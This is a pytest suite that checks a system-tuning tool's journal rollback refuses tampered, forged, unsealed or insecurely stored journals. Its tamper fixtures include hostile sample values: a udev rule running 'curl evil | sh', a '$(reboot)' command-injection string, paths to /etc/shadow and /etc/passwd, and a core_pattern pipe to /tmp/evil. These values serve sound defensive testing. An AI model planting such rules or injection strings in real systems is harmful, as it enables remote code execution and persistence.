"""A journal is not trusted like a plan: rollback undoes only what its apply wrote, on the machine it wrote it."""

from __future__ import annotations

import json
import shutil
import stat
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from rigaudit.orchestrator.cli import main
from rigaudit.tools.actions import seal
from rigaudit.tools.actions.journal import Journal, JournalError
from rigaudit.tools.actions.persist import UDEV_FILE
from rigaudit.tools.actions.provenance import restore_lines
from rigaudit.tools.actions.seal import load_key
from rigaudit.tools.actions.targets import ConfigFileTarget, ModuleTarget, PciRegisterTarget, ServiceTarget, ValueFileTarget
from rigaudit.tools.bench.machine import token
from rigaudit.tools.schema.finding import ModuleLoadAction
from rigaudit.tools.schema.plan import Plan, PlanStep
from tests.support.apply import NUMA, MemoryHost, fast_tmp, mini_seed, read, seed_plan, tree_digest

Entry = dict[str, Any]
MACHINE_ID = "4c4c4544004b3510804cb4c04f4e3332"
"""The mini seed's /etc/machine-id (the seed snapshot recorded none)."""


@pytest.fixture(scope="module")
def applied(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Path, list[Entry]]]:
    """One apply (with --persist) into a copy of the mini seed: the copy and its journal, made once."""
    for folder in fast_tmp(tmp_path_factory.mktemp("journal")):
        mini = mini_seed(folder / "mini")
        (mini / "files" / "etc" / "machine-id").write_text(MACHINE_ID + "\n")
        plan = folder / "plan.json"
        plan.write_text(seed_plan().model_dump_json())
        journal = folder / "j.jsonl"
        argv = ["apply", "--snapshot", str(mini), "--into", str(folder / "copy"), "--plan", str(plan), "--yes"]
        assert main([*argv, "--persist", "--journal", str(journal), "--no-transcript"]) == 0
        yield folder / "copy", journal, [json.loads(line) for line in journal.read_text().splitlines()]


@pytest.fixture
def work(applied: tuple[Path, Path, list[Entry]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    copy, _, _ = applied
    for folder in fast_tmp(tmp_path):
        monkeypatch.chdir(folder)
        shutil.copytree(copy, folder / "copy")
        yield folder


def _rollback(work: Path, entries: list[Entry] | list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
    journal = work / "j.jsonl"
    journal.write_text("".join((e if isinstance(e, str) else json.dumps(e)) + "\n" for e in entries))
    capsys.readouterr()
    code = main(["rollback", str(journal), "--snapshot", str(work / "copy"), "--yes", "--no-transcript"])
    return code, capsys.readouterr().err.strip().splitlines()


def _first_planned(entries: list[Entry], kind: str) -> Entry:
    return next(e for e in entries if e.get("state") == "planned" and e["target"]["type"] == kind)


def _rehash(entries: list[Entry]) -> None:
    """Make every hash agree with the edited plan, as a careful tamperer would."""
    digest = Plan.model_validate(entries[0]["plan"]).digest()
    for entry in entries:
        if "plan_hash" in entry:
            entry["plan_hash"] = digest
        if "approval" in entry:
            entry["approval"]["plan_hash"] = digest


def _other_sysctl(entries: list[Entry]) -> None:
    change = _first_planned(entries, "value_file")
    change["target"] = {**change["target"], "path": "/proc/sys/vm/swappiness", "label": "vm.swappiness"}


def _outside_path(entries: list[Entry]) -> None:
    _first_planned(entries, "value_file")["target"]["path"] = "/etc/shadow"


def _nul_in_path(entries: list[Entry]) -> None:
    _first_planned(entries, "value_file")["target"]["path"] = "/proc/sys/kernel/numa\x00balancing"


def _plan_edited(entries: list[Entry]) -> None:
    entries[0]["plan"]["steps"][0]["title"] = "something else"


def _module_smuggled(entries: list[Entry]) -> None:
    step = PlanStep(
        id="evil", check="x.y", priority="P0", kind="runtime", where="host", title="t", actions=(ModuleLoadAction(module="ext4"),)
    )
    entries[0]["plan"]["steps"].append(json.loads(step.model_dump_json()))
    _rehash(entries)
    change = {**_first_planned(entries, "value_file"), "seq": 999, "step_id": "evil"}
    change["target"], change["before"] = {"type": "module", "module": "ext4"}, "absent"
    entries.append(change)


def _file_removed(entries: list[Entry]) -> None:
    change = {**_first_planned(entries, "config_file"), "seq": 999}
    change["target"] = {"type": "config_file", "path": "/etc/passwd", "content": "x"}
    change["before"] = None
    entries.append(change)


def _udev_rule_added(entries: list[Entry]) -> None:
    for entry in entries:
        target = entry.get("target") or {}
        if target.get("path") == UDEV_FILE:
            target["content"] += 'ACTION=="add", RUN+="/bin/sh -c \'curl evil | sh\'"\n'
            return
    raise AssertionError("the apply wrote no udev rule")


def _no_plan(entries: list[Entry]) -> None:
    del entries[0]["plan"]


def _other_machine(entries: list[Entry]) -> None:
    entries[0]["host_id"] = token(b"a" * 32)


def _bad_before(entries: list[Entry]) -> None:
    _first_planned(entries, "pci_register")["before"] = "$(reboot)"


def _orphan_outcome(entries: list[Entry]) -> None:
    outcome = next(e for e in entries if e.get("ref") is not None)
    outcome["ref"] = 12345


def _deep_line(entries: list[Entry]) -> None:
    entries.insert(2, {"schema": "rigaudit.journal/1", "seq": 5000, "kind": "approval", "message": "x", "nested": []})
    entries[2]["nested"] = json.loads("[" * 500 + "]" * 500)


TAMPERED: dict[str, tuple[Callable[[list[Entry]], None], str]] = {
    "another sysctl": (_other_sysctl, "not a target of step"),
    "a path outside /proc/sys and /sys": (_outside_path, "damaged or invalid line"),
    "a NUL byte in a path": (_nul_in_path, "damaged or invalid line"),
    "the plan edited": (_plan_edited, "does not have the recorded hash"),
    "a module smuggled in with its plan rehashed": (_module_smuggled, "not one rigaudit loads"),
    "a file to delete": (_file_removed, "not a persist file"),
    "a udev rule added": (_udev_rule_added, "gains a line the plan does not write"),
    "no plan recorded": (_no_plan, "records no plan"),
    "another machine": (_other_machine, f"written on {token(b'a' * 32).replace(':', ' ')[:19]}"),
    "a register value that is shell": (_bad_before, "damaged or invalid line|not hex"),
    "an outcome of nothing": (_orphan_outcome, "matches no earlier change"),
    "a deeply nested line": (_deep_line, "damaged or invalid line"),
}


@pytest.mark.parametrize("name", TAMPERED)
def test_a_tampered_journal_is_refused_with_one_line_and_nothing_changes(
    name: str, applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tamper, reason = TAMPERED[name]
    entries = json.loads(json.dumps(applied[2]))
    tamper(entries)
    before = tree_digest(work / "copy")
    code, err = _rollback(work, entries, capsys)
    assert code == 2
    assert len(err) == 1 and "Traceback" not in err[0] and "refusing" in err[0]
    assert any(part in err[0] for part in reason.split("|")), err[0]
    assert tree_digest(work / "copy") == before


def test_the_untampered_journal_rolls_back(
    applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, err = _rollback(work, applied[2], capsys)
    assert code == 0 and err == []
    assert read(work / "copy", NUMA) == b"1\n"
    assert not (work / "copy" / "files" / UDEV_FILE.lstrip("/")).exists()


def test_the_journal_records_a_digest_of_the_machine_id_never_the_id(applied: tuple[Path, Path, list[Entry]]) -> None:
    _, journal, entries = applied
    assert entries[0]["kind"] == "session" and entries[0]["host_id"] == token(MACHINE_ID.encode())
    assert MACHINE_ID not in journal.read_text() and MACHINE_ID.upper() not in journal.read_text().upper()


def test_a_journal_of_an_older_rigaudit_is_refused_saying_why(
    applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before seals (and digests): the raw id and no seal on any entry. Nothing vouches for it."""
    entries = json.loads(json.dumps(applied[2]))
    entries[0]["host_id"] = f"machine-id:{MACHINE_ID}"
    for entry in entries:
        del entry["seal"]
    before = tree_digest(work / "copy")
    code, err = _rollback(work, entries, capsys)
    assert code == 2 and len(err) == 1 and "entry 1 carries no seal (written by an older rigaudit" in err[0]
    assert tree_digest(work / "copy") == before


def test_a_journal_of_another_machine_written_before_digests_is_refused_without_showing_its_id(
    applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = "0123456789abcdef0123456789abcdef"
    entries = json.loads(json.dumps(applied[2]))
    entries[0]["host_id"] = f"machine-id:{other}"
    before = tree_digest(work / "copy")
    code, err = _rollback(work, entries, capsys)
    assert code == 2 and len(err) == 1
    theirs, mine = (token(x.encode()).removeprefix("machine-id:")[:8] for x in (other, MACHINE_ID))
    assert f"written on machine-id {theirs}, this is machine-id {mine}" in err[0]
    assert other not in err[0] and MACHINE_ID not in err[0]
    assert tree_digest(work / "copy") == before


def test_a_torn_last_line_is_the_one_damage_allowed(
    applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines: list[str] = [json.dumps(e) for e in applied[2]]
    code, _ = _rollback(work, [*lines, lines[-1][: len(lines[-1]) // 2]], capsys)
    assert code == 0
    code, err = _rollback(work, [*lines[:3], lines[3][:10], *lines[4:]], capsys)
    assert code == 2 and "damaged or invalid line" in err[0]


def test_a_live_rollback_of_a_crafted_journal_touches_nothing(
    work: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A journal claiming this machine: its core_pattern change is refused before any host is touched."""
    host = MemoryHost({"/proc/sys/kernel/core_pattern": b"core\n", "/etc/machine-id": MACHINE_ID.encode()})
    monkeypatch.setattr("rigaudit.tools.hosts.local.LocalHost", lambda: host)
    target = ValueFileTarget(path="/proc/sys/kernel/core_pattern", value="|/tmp/x", label="kernel.core_pattern")
    plan = Plan()
    session = {"schema": "rigaudit.journal/1", "seq": 1, "kind": "session", "host": host.name, "source": "local"}
    session["host_id"] = token(MACHINE_ID.encode())
    session |= {"plan": json.loads(plan.model_dump_json()), "plan_hash": plan.digest()}
    change = {"schema": "rigaudit.journal/1", "seq": 2, "kind": "change", "state": "planned", "step_id": "x"}
    change |= {"target": json.loads(target.model_dump_json()), "before": "|/tmp/evil"}
    (work / "j.jsonl").write_text(json.dumps(session) + "\n" + json.dumps(change) + "\n")
    assert main(["rollback", str(work / "j.jsonl"), "--yes", "--no-transcript"]) == 2
    err = capsys.readouterr().err
    assert "not one rigaudit changes" in err and host.writes == [] and host.commands == []


def test_the_approval_shows_every_path_value_and_command() -> None:
    lines = restore_lines(
        [
            (ValueFileTarget(path=NUMA, value="0", label="kernel.numa_balancing"), "1\n"),
            (PciRegisterTarget(device="0000:03:00.0", capability="exp", offset=8, width=2, value=0x5000, mask=0x7000), "0x283f"),
            (ModuleTarget(module="nvidia_uvm"), "absent"),
            (ServiceTarget(unit="nvidia-persistenced"), "inactive"),
            (ConfigFileTarget(path=UDEV_FILE, content="a\n"), None),
            (ConfigFileTarget(path="/etc/sysctl.d/90-rigaudit.conf", content="x\ny\n"), "x\n"),
        ]
    )
    assert lines == [
        f"write '1\\n' to {NUMA}",
        "setpci -s 0000:03:00.0 CAP_EXP+0x8.w=2000:7000",
        "modprobe -r nvidia_uvm",
        "systemctl stop nvidia-persistenced",
        f"remove {UDEV_FILE}",
        "write 1 line(s) back to /etc/sysctl.d/90-rigaudit.conf:",
        "    x",
    ]


def test_the_rollback_approval_lists_the_changes(
    applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[str] = []

    def approve(what: str, details: list[str], **_: object) -> object:
        seen.extend(details)
        raise SystemExit(0)

    monkeypatch.setattr("rigaudit.orchestrator.change.rollback.require_approval", approve)
    with pytest.raises(SystemExit):
        _rollback(work, applied[2], capsys)
    assert f"write '1\\n' to {NUMA}" in seen
    assert sum(1 for line in seen if line.startswith("write '0\\n' to /sys/devices/system/cpu/")) == 128
    assert any(line.startswith("setpci -s 0000:03:00.0 CAP_EXP+0x8.w=") for line in seen)
    assert any(line.startswith("remove /etc/") for line in seen)


def test_a_live_rollback_of_a_journal_without_a_machine_id_is_refused(
    work: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Named like this machine, with no machine id: a name proves nothing, so nothing is restored."""
    host = MemoryHost({NUMA: b"0\n", "/etc/machine-id": MACHINE_ID.encode()})
    monkeypatch.setattr("rigaudit.tools.hosts.local.LocalHost", lambda: host)
    plan = seed_plan()
    target = ValueFileTarget(path=NUMA, value="0", label="kernel.numa_balancing")
    session = {"schema": "rigaudit.journal/1", "seq": 1, "kind": "session", "host": host.name, "source": "local"}
    session |= {"plan": json.loads(plan.model_dump_json()), "plan_hash": plan.digest()}
    change = {"schema": "rigaudit.journal/1", "seq": 2, "kind": "change", "state": "planned", "step_id": "numa.balancing"}
    change |= {"target": json.loads(target.model_dump_json()), "before": "1\n"}
    (work / "j.jsonl").write_text(json.dumps(session) + "\n" + json.dumps(change) + "\n")
    assert main(["rollback", str(work / "j.jsonl"), "--yes", "--no-transcript"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "records no machine identity (machine-id or product uuid)" in err[0]
    assert host.writes == [] and host.files[NUMA] == b"0\n"


def _forged(entries: list[Entry]) -> None:
    """A tamperer who knows the format: the plan edited and its hash recomputed, a value to restore changed."""
    _plan_edited(entries)
    _rehash(entries)
    _first_planned(entries, "value_file")["before"] = "3\n"


def test_a_forged_journal_with_its_hash_recomputed_is_refused_and_nothing_changes(
    applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    entries = json.loads(json.dumps(applied[2]))
    _forged(entries)
    before = tree_digest(work / "copy")
    code, err = _rollback(work, entries, capsys)
    assert code == 2 and len(err) == 1, err
    assert "entry 1 does not carry its seal" in err[0] and "refusing" in err[0]
    assert tree_digest(work / "copy") == before


def test_a_journal_sealed_under_another_key_is_refused(
    applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Another user's or machine's journal, untouched: this user's key did not seal it (or there is none)."""
    key = work / "other" / "rigaudit" / "journal.key"
    monkeypatch.setattr("rigaudit.tools.actions.seal.key_path", lambda: key)
    code, err = _rollback(work, applied[2], capsys)
    assert code == 2 and len(err) == 1 and f"no journal key at {key}" in err[0]
    load_key(create=True)
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and stat.S_IMODE(key.parent.stat().st_mode) == 0o700
    code, err = _rollback(work, applied[2], capsys)
    assert code == 2 and len(err) == 1 and "does not carry its seal" in err[0]
    key.chmod(0o644)
    code, err = _rollback(work, applied[2], capsys)
    assert code == 2 and "the journal key" in err[0] and "may be read or written by others (mode 0644)" in err[0]


def _lines(entries: list[Entry]) -> str:
    return "".join(json.dumps(e) + "\n" for e in entries)


def _world_writable_folder(work: Path, entries: list[Entry]) -> Path:
    folder = work / "shared"
    folder.mkdir()
    folder.chmod(0o777)
    (folder / "j.jsonl").write_text(_lines(entries))
    return folder / "j.jsonl"


def _group_writable_file(work: Path, entries: list[Entry]) -> Path:
    (work / "j.jsonl").write_text(_lines(entries))
    (work / "j.jsonl").chmod(0o664)
    return work / "j.jsonl"


def _link(work: Path, entries: list[Entry]) -> Path:
    (work / "real.jsonl").write_text(_lines(entries))
    (work / "j.jsonl").symlink_to(work / "real.jsonl")
    return work / "j.jsonl"


def _folder_link(work: Path, entries: list[Entry]) -> Path:
    (work / "real").mkdir()
    (work / "real" / "j.jsonl").write_text(_lines(entries))
    (work / "linked").symlink_to(work / "real")
    return work / "linked" / "j.jsonl"


CUSTODY: dict[str, tuple[Callable[[Path, list[Entry]], Path], str]] = {
    "in a world-writable folder": (_world_writable_folder, "may be written by others (mode 0777)"),
    "group-writable": (_group_writable_file, "it may be written by others (mode 0664)"),
    "behind a link": (_link, "it is a symbolic link"),
    "in a folder behind a link": (_folder_link, "is a symbolic link"),
}


@pytest.mark.parametrize("name", CUSTODY)
def test_a_journal_someone_else_could_have_written_is_refused(
    name: str, applied: tuple[Path, Path, list[Entry]], work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    place, reason = CUSTODY[name]
    journal = place(work, applied[2])
    before = tree_digest(work / "copy")
    capsys.readouterr()
    code = main(["rollback", str(journal), "--snapshot", str(work / "copy"), "--yes", "--no-transcript"])
    err = capsys.readouterr().err.strip().splitlines()
    assert code == 2 and len(err) == 1 and reason in err[0] and "refusing" in err[0], err
    assert tree_digest(work / "copy") == before


def test_apply_journals_only_where_rollback_will_honour_it(applied: tuple[Path, Path, list[Entry]], tmp_path: Path) -> None:
    _, journal, _ = applied
    assert stat.S_IMODE(journal.stat().st_mode) == 0o600
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    with pytest.raises(JournalError, match="may be written by others"):
        Journal.create(shared / "j.jsonl")
    assert not (shared / "j.jsonl").exists()


def test_the_first_key_is_made_beside_transcripts_in_a_folder_of_the_usual_mode(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An audit's transcript makes ``$XDG_STATE_HOME/rigaudit`` with the usual mode (0755) before any apply: the
    first apply's key still gets a folder only its user can enter."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    (tmp_path / "state" / "rigaudit" / "transcripts").mkdir(parents=True, mode=0o755)
    (tmp_path / "state" / "rigaudit").chmod(0o755)
    key = seal.key_path()
    assert len(load_key(create=True)) == seal.KEY_BYTES
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and stat.S_IMODE(key.parent.stat().st_mode) == 0o700
    assert key.parent.parent == tmp_path / "state" / "rigaudit"
